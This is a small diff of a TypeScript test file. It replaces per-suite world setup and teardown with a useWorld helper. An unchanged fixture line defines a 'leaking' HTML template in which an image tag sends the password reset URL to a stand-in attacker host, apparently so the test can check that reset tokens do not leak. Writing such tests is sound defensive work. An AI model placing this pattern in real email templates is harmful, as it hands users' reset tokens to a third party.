@@ -1,13 +1,7 @@
 import { uniqueName } from '../../support/journeys';
-import { createWorld, type World } from '../../support/world';
+import { useWorld } from '../../support/world';
 
-let world: World;
-
-beforeAll(async () => {
-  world = await createWorld({ temporal: false });
-});
-
-afterAll(() => world.stop());
+const world = useWorld({ temporal: false });
 
 const leaking = '<img src="https://mallory.example/?u={{ reset_url }}"><a href="{{ reset_url }}">Reset</a>';
 const resetUrl = 'https://app.example.com/reset?token=abc';
